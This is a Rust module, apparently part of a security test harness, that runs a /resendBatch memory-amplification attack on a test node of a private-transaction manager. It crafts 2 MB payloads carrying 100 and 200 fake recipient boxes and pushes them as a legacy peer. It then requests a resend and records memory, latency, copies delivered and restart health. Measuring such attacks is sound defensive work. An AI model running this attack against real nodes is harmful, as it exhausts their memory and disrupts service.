//! `/resendBatch` amplification: the attacker proves a key of its own, pushes two payloads (2 MB
//! in the benchmark) "sent" by that key with 100 and 200 recipient boxes, then asks for every
//! transaction of its key again. A node that builds one copy of the payload per box before it
//! sends anything holds 300 copies at once.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

use cloister_core::keys::PublicKey;
use cloister_core::nacl::Nonce;
use cloister_core::payload::{EncodedPayload, PayloadCodec, PrivacyMode, RECIPIENT_BOX_LEN};
use cloister_harness::http::Request;
use rand_core::{OsRng, RngCore};
use serde_json::json;

use super::watch::{Seen, Watch};
use super::{cost, Attacker, Victim, LEGACY_VERSIONS};

/// The size of each payload's cipher text in the benchmark.
pub const PAYLOAD_BYTES: usize = 2 * 1024 * 1024;

/// Boxes of each payload.
const BOXES: [usize; 2] = [100, 200];

/// What the resend cost.
#[derive(Debug, Clone)]
pub struct Amplify {
    /// The size of each payload's cipher text.
    pub payload_bytes: usize,
    /// Memory and `tm.ipc` latency during the resend.
    pub seen: Seen,
    /// The status of the `/resendBatch`.
    pub resend_status: u16,
    /// Copies the attacker received through `/pushBatch`.
    pub copies_delivered: usize,
    /// Whether the node restarted on the same data and answered `/health` 200.
    pub restart_healthy: bool,
}

/// Random bytes.
pub fn random(len: usize) -> Vec<u8> {
    let mut bytes = vec![0; len];
    OsRng.fill_bytes(&mut bytes);
    bytes
}

/// A payload "sent" by `sender` with `boxes` random recipients and boxes.
pub fn crafted(sender: PublicKey, cipher_bytes: usize, boxes: usize) -> EncodedPayload {
    let keys: BTreeSet<PublicKey> = (0..boxes)
        .map(|_| PublicKey::from_slice(&random(32), "key").expect("32 bytes"))
        .collect();
    EncodedPayload {
        sender_key: sender,
        cipher_text: random(cipher_bytes),
        cipher_text_nonce: Nonce::from_slice(&random(24)).expect("24 bytes"),
        recipient_boxes: (0..keys.len()).map(|_| random(RECIPIENT_BOX_LEN)).collect(),
        recipient_nonce: Nonce::from_slice(&random(24)).expect("24 bytes"),
        recipient_keys: keys.into_iter().collect(),
        privacy_mode: PrivacyMode::StandardPrivate,
        affected_contract_transactions: BTreeMap::new(),
        exec_hash: Vec::new(),
        mandatory_recipients: BTreeSet::new(),
        privacy_group_id: None,
    }
}

/// Pushes `payload` to the victim as a LEGACY peer would; the status.
pub fn push(victim: &Victim, payload: &EncodedPayload) -> u16 {
    Request::new("POST", "/push")
        .header("tesseraSupportedApiVersions", LEGACY_VERSIONS)
        .body_with_type(
            "application/octet-stream",
            PayloadCodec::Legacy.encode(payload),
        )
        .try_send(&victim.dir.p2p_target(), None)
        .map_or(0, |r| r.status)
}

/// Runs the attack with payloads of `payload_bytes`.
pub fn run(payload_bytes: usize) -> anyhow::Result<Amplify> {
    let mut victim = Victim::start(json!({}));
    let attacker = Attacker::start()?;
    attacker.join(&victim)?;
    for boxes in BOXES {
        let status = push(&victim, &crafted(attacker.key(), payload_bytes, boxes));
        anyhow::ensure!(
            status == 201,
            "pushing a payload with {boxes} boxes: {status}"
        );
    }
    let watch = Watch::start(victim.node.pid(), victim.dir.q2t());
    let request = json!({ "publicKey": attacker.key().to_base64(), "batchSize": 10_000 });
    let resend_status = Request::new("POST", "/resendBatch")
        .json(&request)
        .try_send(&victim.dir.p2p_target(), None)
        .map_or(0, |r| r.status);
    let seen = watch.finish();
    let copies_delivered = attacker.batched.load(std::sync::atomic::Ordering::Relaxed);
    let restart_healthy = victim.restart_is_healthy();
    Ok(Amplify {
        payload_bytes,
        seen,
        resend_status,
        copies_delivered,
        restart_healthy,
    })
}

impl fmt::Display for Amplify {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "resendBatch of {} boxes of {} KiB: {}, {} copies delivered; {}; restart healthy: {}",
            BOXES.iter().sum::<usize>(),
            self.payload_bytes / 1024,
            self.resend_status,
            self.copies_delivered,
            cost(&self.seen),
            self.restart_healthy
        )
    }
}
